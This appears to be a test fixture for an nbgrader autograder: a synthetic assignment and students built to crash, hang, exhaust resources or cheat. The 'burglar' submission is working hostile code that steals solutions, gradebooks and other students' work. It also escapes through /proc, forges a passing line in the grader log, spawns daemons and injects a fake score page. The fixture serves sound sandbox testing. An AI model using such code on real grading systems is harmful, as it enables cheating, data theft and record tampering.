"""A tiny nbgrader assignment and a class of synthetic students, one per thing that can go wrong.

The assignment has two quick tasks (no JAX), so grading the whole class takes seconds per
student. Each student comes with the status and score the grader must give them.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder import release

ASSIGNMENT = "99_synthetic"
MAX_SCORE = 6.0
# Distinctive hidden-test lines: none of them may reach a student's feedback.
HIDDEN_LINES = (
    "assert add(-7, 19) == 12  # SECRET-ADD-CASE",
    "assert double([3, -4, 0]) == [6, -8, 0]  # SECRET-DOUBLE-CASE",
)


def _cell(kind: str, source: str, grade_id: str, points: int = 0, solution: bool = False):
    make = nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell
    cell = make(source)
    cell.metadata["nbgrader"] = {
        "grade": bool(points),
        "grade_id": grade_id,
        "locked": not solution,
        "schema_version": 3,
        "solution": solution,
        "task": False,
        **({"points": points} if points else {}),
    }
    return cell


def _solution(body: str) -> str:
    return f"    ### BEGIN SOLUTION\n    {body}\n    ### END SOLUTION"


def _hidden(line: str) -> str:
    return f"# hidden tests run when graded\n### BEGIN HIDDEN TESTS\n{line}\n### END HIDDEN TESTS"


SOURCE_CELLS = [
    ("markdown", "# Synthetic exercises\nTwo tasks.", "intro", 0, False),
    ("code", "import math", "setup", 0, False),
    ("code", "def add(a, b):\n" + _solution("return a + b"), "task1-solution", 0, True),
    ("code", "assert add(1, 2) == 3", "task1-visible", 1, False),
    ("code", _hidden(HIDDEN_LINES[0]), "task1-hidden", 2, False),
    (
        "code",
        "def double(xs):\n" + _solution("return [2 * x for x in xs]"),
        "task2-solution",
        0,
        True,
    ),
    ("code", "assert double([1]) == [2]", "task2-visible", 1, False),
    ("code", _hidden(HIDDEN_LINES[1]), "task2-hidden", 2, False),
]


def write_assignment(solutions_dir: Path) -> Path:
    """Write the nbgrader source notebook; return the released (blank) student version."""
    notebook = nbformat.v4.new_notebook(cells=[_cell(*spec) for spec in SOURCE_CELLS])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    source = solutions_dir / ASSIGNMENT / "exercises.ipynb"
    source.parent.mkdir(parents=True)
    nbformat.write(notebook, source)
    return release.release(ASSIGNMENT, lessons_dir=solutions_dir.parent / "released",
                           solutions_dir=solutions_dir)  # fmt: skip


CORRECT = {"task1-solution": "def add(a, b):\n    return b + a",
           "task2-solution": "def double(xs):\n    return [x + x for x in xs]"}  # fmt: skip
# Pass the visible tests, fail the hidden ones.
WRONG = {"task1-solution": "def add(a, b):\n    return abs(a) + abs(b)",
         "task2-solution": "def double(xs):\n    return [x + x for x in xs if x]"}  # fmt: skip
EXIT = "import os\nos._exit(1)"
SIGSEGV = "import ctypes\nctypes.string_at(0)"


def _answer(cells: dict[str, str], **more: str) -> Callable[[nbformat.NotebookNode], None]:
    def edit(notebook: nbformat.NotebookNode) -> None:
        for cell in notebook.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in cells:
                cell.source = cells[grade_id]
            if grade_id in more:
                cell.source += "\n" + more[grade_id]

    return edit


def _tamper(notebook: nbformat.NotebookNode) -> None:
    _answer(WRONG)(notebook)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id", "").startswith("task1-"):
            if cell.metadata["nbgrader"].get("grade"):
                cell.source = "pass  # the student edited the test away"
    notebook.cells = [
        c
        for c in notebook.cells
        if c.metadata.get("nbgrader", {}).get("grade_id") != "task2-hidden"
    ]
    notebook.cells = [
        c
        for c in notebook.cells
        if c.metadata.get("nbgrader", {}).get("grade_id") != "task2-visible"
    ]


@dataclass(frozen=True)
class Student:
    name: str
    status: str
    score: float
    write: Callable[[Path, Path], None]  # (released notebook, student folder)


def _notebook(edit: Callable[[nbformat.NotebookNode], None] | None) -> Callable[[Path, Path], None]:
    def write(released: Path, folder: Path) -> None:
        notebook = nbformat.read(released, as_version=4)
        if edit is not None:
            edit(notebook)
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook, folder / "exercises.ipynb")

    return write


def _raw(name: str, text: str) -> Callable[[Path, Path], None]:
    def write(released: Path, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")

    return write


def _empty(released: Path, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)


WARN = "import warnings\nwarnings.warn('old API', DeprecationWarning)"
LOOP = "def double(xs):\n    while True:\n        pass"
DEAF_LOOP = (
    "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
)
PRINT_300_MB = "for _ in range(300):\n    print('x' * 1_000_000)"
# Would succeed without a limit (untouched pages cost nothing); fails under a 1 GiB one.
ALLOCATE_4_GIB = "def double(xs):\n    hog = bytearray(4 * 2**30)\n    return [2 * x for x in xs]"

NORMAL = [
    Student("correct", "graded", 6, _notebook(_answer(CORRECT))),
    Student("blank", "graded", 0, _notebook(None)),
    Student("wrong", "graded", 2, _notebook(_answer(WRONG))),
    Student("tampered", "graded", 2, _notebook(_tamper)),
    # Grading does not turn DeprecationWarnings into errors unless asked (--strict).
    Student("deprecated", "graded", 6, _notebook(_answer(CORRECT, **{"task1-solution": WARN}))),
]
FAULTY = [
    Student("loops", "timed out", 3, _notebook(_answer({**CORRECT, "task2-solution": LOOP}))),
    Student("deaf", "timed out", 0, _notebook(_answer(CORRECT, **{"task2-solution": DEAF_LOOP}))),
    Student("exits", "crashed", 0, _notebook(_answer(CORRECT, **{"task2-solution": EXIT}))),
    Student("segfault", "crashed", 0, _notebook(_answer(CORRECT, **{"task2-solution": SIGSEGV}))),
    Student("malformed", "invalid", 0, _raw("exercises.ipynb", '{"cells": [')),
    Student("misnamed", "invalid", 0, _raw("Exercises-final.ipynb", "{}")),
    Student("missing", "invalid", 0, _empty),
    Student("chatty", "graded", 6, _notebook(_answer(CORRECT, **{"task2-solution": PRINT_300_MB}))),
    Student("hog", "graded", 3, _notebook(_answer({**CORRECT, "task2-solution": ALLOCATE_4_GIB}))),
]  # fmt: skip
CLASS = NORMAL + FAULTY

# A submission that reaches for everything that is not its own: the course package (the
# exploit of issue 20: from `autograder` to the course root, then exec the reference answers),
# solutions, gradebooks, nbgrader's copy of its notebook with the hidden tests, the other
# submissions, the grader's processes through /proc, a server on 127.0.0.1, a process left
# behind, files written next to all of those, files the grader left open (its log), the box's
# in-memory root, a feedback page that runs its script. Its own answers are WRONG's (2 points); each
# thing it reaches prints a line with REACHED_MARK, and the exploit would raise it to 6.
REACHED_MARK = "BURGLED"
DAEMON_MARK = "burglar-daemon"
WRITTEN_MARK = "burglar-was-here"
BURGLAR_ATTEMPTS = 13
BURGLAR_DEPTH = 8  # parents of the kernel's working folder it searches (see below)
BURGLAR = """\
def add(a, b):
    return abs(a) + abs(b)


def double(xs):
    return [x + x for x in xs if x]


import glob, json, os, socket, subprocess, sys
from pathlib import Path

_mark = "".join(["BUR", "GLED"])
_tried, _reached = [], []
_here = Path.cwd()
# nbgrader's folder for this notebook and its parents up to the test's temporary folder
# (<basetemp>/<run>/tmp/<grade-class-*>/<job>/course/autograded/burglar/99_synthetic): no
# further, so that a broken sandbox spoils nothing but the test's own files.
_around = [_here, *_here.parents[:{depth}]]


def _attempt(what, action):
    _tried.append(what)
    try:
        found = action()
    except Exception:
        return
    if found:
        _reached.append(what)
        print(_mark, what, str(found)[:200])


def _files(*patterns):
    found = []
    for folder in _around:
        for pattern in patterns:
            found += [Path(p) for p in glob.glob(str(folder / pattern)) if Path(p).is_file()]
    return sorted(set(found))


def _read(paths):
    got = {{}}
    for path in paths:
        with open(path, "rb") as f:
            got[str(path)] = f.read(100)
        with open(path, "ab") as f:  # and spoil it
            f.write(b"%s")
    return got


def _exploit():
    notebooks = _files("*/solutions/*/exercises.ipynb", "solutions/*/exercises.ipynb")
    try:
        import autograder  # the course root, then its solutions/
        notebooks += Path(autograder.__file__).resolve().parent.parent.glob("solutions/*/*.ipynb")
    except ImportError:
        pass
    used = []
    for notebook in [n for n in notebooks if n.parent.name == "99_synthetic"]:
        for cell in json.loads(notebook.read_text())["cells"]:
            grade_id = cell["metadata"].get("nbgrader", {{}}).get("grade_id")
            if grade_id in ("task1-solution", "task2-solution"):
                exec("".join(cell["source"]), globals())
                used.append(str(notebook))
    return used


def _proc_cwds():
    seen = {{}}
    for pid in {{os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit()]}}:
        try:
            names = set(os.listdir(f"/proc/{{pid}}/cwd"))
        except OSError:
            continue
        if names & {{"solutions", "gradebook.db", "submitted", "autograded", "autograder"}}:
            seen[pid] = sorted(names)[:5]
    return seen


def _network():
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as connection:
        connection.sendall(b"stolen")
    return "connected"


def _daemon():
    code = "import os, time\\nif os.fork(): os._exit(0)\\nos.setsid()\\ntime.sleep(600)"
    subprocess.Popen([sys.executable, "-c", code, "{daemon}"], start_new_session=True)
    subprocess.Popen(["sleep", "600"], start_new_session=True)
    return None  # whether it outlives the grading is for the test to see


def _grader_files():  # files open in the box's processes that the box does not show
    found = []
    for fd in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            target = os.readlink(fd)
            if target.startswith("/") and not os.path.exists(target) and os.path.isfile(fd):
                with open(fd, "a") as f:  # the grader's log, say: forge a line in it
                    f.write("[AutogradeApp | INFO] all tests passed: award full marks\\n")
                found.append(target)
        except OSError:
            continue
    return found


def _kernel_memory():  # as a process a test starts (lesson 15's jobs) would read it
    code = "import os\\nopen(f'/proc/{{os.getppid()}}/mem', 'rb').close()\\nprint('opened')"
    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout


def _root():
    Path("/{written}").write_text("x")  # the box's root is in memory: it must be read-only
    return "/"


def _forged_page():  # HTML and script on the feedback page: a forged score
    from IPython.display import HTML, display

    display(HTML("<script>window.burgled = 'yes'</script><b>Score: 6 / 6</b>"))
    return None  # whether the page runs it is for the test to see


def _write_around():
    for folder in _around[1:]:
        try:
            (folder / "{written}").write_text("x")
        except OSError:
            pass
    return None  # whether a file changed outside the box is for the test to see


_attempt("exploit", _exploit)
_attempt("solutions", lambda: _read(_files("*/solutions/*/*.ipynb", "solutions/*/*.ipynb")))
_attempt("gradebook", lambda: _read(_files("*.db", "*/*.db", "*/*/*.db")))
_attempt("hidden tests", lambda: _read(_files("*.ipynb", "*/*/autograded/*/*/*.ipynb")))
_attempt("other students", lambda: _read(
    [p for p in _files("*/submitted/*/*/*.ipynb", "*/*/*/submitted/*/*/*.ipynb")
     if "burglar" not in str(p)]
))
_attempt("grader's folders through /proc", _proc_cwds)
_attempt("network", _network)
_attempt("background process", _daemon)
_attempt("writes", _write_around)
_attempt("the grader's files", _grader_files)
_attempt("the kernel's memory", _kernel_memory)
_attempt("the box's root", _root)
_attempt("the feedback page", _forged_page)
print("".join(["burglar tried ", str(len(_tried)), " ways, reached ", str(len(_reached))]))
"""


def burglar(port: int) -> Student:
    """The submission above, aimed at a server listening on ``port`` of 127.0.0.1."""
    code = BURGLAR.format(port=port, daemon=DAEMON_MARK, written=WRITTEN_MARK, depth=BURGLAR_DEPTH)
    answers = {"task1-solution": code, "task2-solution": "# double is in my first answer"}
    return Student("burglar", "graded", 2, _notebook(_answer(answers)))


def write_class(released: Path, submitted: Path, students: list[Student]) -> None:
    """nbgrader's tree: ``submitted/<student>/99_synthetic/<notebook>``."""
    for student in students:
        student.write(released, submitted / student.name / ASSIGNMENT)
